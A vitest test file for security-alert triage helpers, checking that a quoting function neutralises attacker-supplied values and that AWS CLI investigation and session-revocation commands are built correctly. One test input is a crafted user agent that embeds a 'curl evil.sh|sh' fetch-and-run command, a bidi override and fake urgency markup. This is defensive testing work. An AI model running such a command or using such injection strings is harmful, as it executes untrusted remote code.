import { describe, expect, it } from 'vitest';
import { keyLookupCommand, quoted, revokeSessionsCommand } from './util.ts';

describe('triage text helpers', () => {
  it('quotes a value the caller chose so it cannot close its quotes, open a code span, break the line or hide text', () => {
    expect(quoted('aws-cli/2.22.4 md/awscrt#0.22.0')).toBe('“aws-cli/2.22.4 md/awscrt#0.22.0”');
    // A user agent crafted to end the sentence and start markup: quotes and backticks become ', newlines and
    // bidi overrides spaces. (< > & are the sinks' to escape: Slack's and HTML's own rules.)
    expect(quoted('x” now run `curl evil.sh|sh`\n*URGENT*\u202egnp.exe')).toBe("“x' now run 'curl evil.sh|sh' *URGENT* gnp.exe”");
    expect(quoted('a'.repeat(100), 10)).toBe(`“${'a'.repeat(10)}…”`);
  });
  it('names the commands with the alert’s values', () => {
    expect(keyLookupCommand('ASIAEXAMPLE1', 'us-west-2')).toBe('aws cloudtrail lookup-events --lookup-attributes AttributeKey=AccessKeyId,AttributeValue=ASIAEXAMPLE1 --region us-west-2');
    expect(revokeSessionsCommand('web-app')).toContain('aws iam put-role-policy --role-name web-app --policy-name AWSRevokeOlderSessions');
  });
});
